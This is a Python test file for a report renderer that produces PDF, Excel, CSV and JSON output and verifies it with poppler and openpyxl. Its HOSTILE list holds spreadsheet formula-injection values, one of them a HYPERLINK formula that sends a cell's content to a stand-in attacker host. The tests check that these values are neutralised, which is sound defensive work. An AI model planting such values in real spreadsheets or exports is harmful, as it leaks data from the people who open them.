"""Real files, read back by real readers: poppler for PDF, openpyxl for xlsx."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from meterline.reports.renderers import neutralise, render
from tests.reports.samples import sample_document

ARTIFACTS = Path(os.environ.get("METERLINE_TEST_ARTIFACTS", "build/test-artifacts")) / "reports"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
           "\tcmd", "\rx", "\nx"]  # fmt: skip


def hostile_document(rows: int = 20):
    document = sample_document(rows=rows, charts=3)
    table = document["sections"][-1]
    for i, text in enumerate(HOSTILE):
        table["rows"][i][0] = text
    return document


@pytest.mark.slow
def test_pdf_has_every_row_and_the_right_page_count(tmp_path: Path):
    rendered = render(sample_document(rows=500, charts=6), "pdf")
    path = tmp_path / "report.pdf"
    path.write_bytes(rendered.content)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True)
    pages = int(next(ln for ln in info.stdout.splitlines() if ln.startswith("Pages:")).split()[1])
    assert pages == rendered.page_count
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    for i in range(500):
        assert f"/api/route-{i:05d}/items/:id" in text
    assert f"Page {pages} of {pages}" in text
    assert "Chart 6 (pie)" in text
    # the table header repeats on every page the table spans
    assert text.count("Bandwidth bytes") >= pages - 4
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        ["pdftoppm", "-r", "70", "-png", "-f", "1", "-l", "3", str(path),
         str(ARTIFACTS / "report-page")],
        check=True,
    )  # fmt: skip
    assert sorted(p.name for p in ARTIFACTS.glob("report-page-*.png"))


def test_pdf_portrait_and_empty_sections(tmp_path: Path):
    document = sample_document(rows=0, charts=3, orientation="portrait")
    for section in document["sections"]:
        if section["kind"] == "chart":
            section["categories"], section["series"] = [], []
    rendered = render(document, "pdf")
    path = tmp_path / "empty.pdf"
    path.write_bytes(rendered.content)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
    assert "No data in this period" in text
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
    assert "595.276 x 841.89" in info  # A4 portrait


def test_excel_reads_back_with_charts_and_no_formulas(tmp_path: Path):
    rendered = render(hostile_document(), "excel")
    path = tmp_path / "report.xlsx"
    path.write_bytes(rendered.content)
    with zipfile.ZipFile(path) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 3
        assert b"<c:pieChart>" in archive.read(sorted(charts)[-1])
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[0] == "Summary"
    table = book["Endpoints"]
    header = [c.value for c in table[1]]
    assert header[:3] == ["Route", "Method", "Requests"]
    for row, text in enumerate(HOSTILE, start=2):
        cell = table.cell(row=row, column=1)
        assert cell.data_type == "s"
        # openpyxl shows a stored CR as its OOXML escape; Excel shows the CR
        assert cell.value == "'" + text.replace("\r", "_x000D_")
    assert table.cell(row=2, column=3).data_type == "n"
    assert table.cell(row=2, column=3).value == 100_000
    assert table.cell(row=2, column=4).number_format == "0.00%"
    assert table.max_row == 21
    summary = book["Summary"]
    assert summary["B7"].value == 1_234_567


def test_csv_neutralises_strings_and_keeps_numbers():
    rendered = render(hostile_document(), "csv")
    text = rendered.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header_at = rows.index(["route", "method", "requests", "error_rate", "latency_p95",
                            "bandwidth_bytes"])  # fmt: skip
    body = rows[header_at + 1 : header_at + 1 + len(HOSTILE)]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE]
    assert body[0][2] == "100000"
    assert body[0][3] == "0.0"


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("plain") == "plain"
    assert neutralise(-5) == -5
    assert neutralise(None) is None


def test_json_is_the_document():
    import json

    document = sample_document(rows=3, charts=1)
    assert json.loads(render(document, "json").content) == document
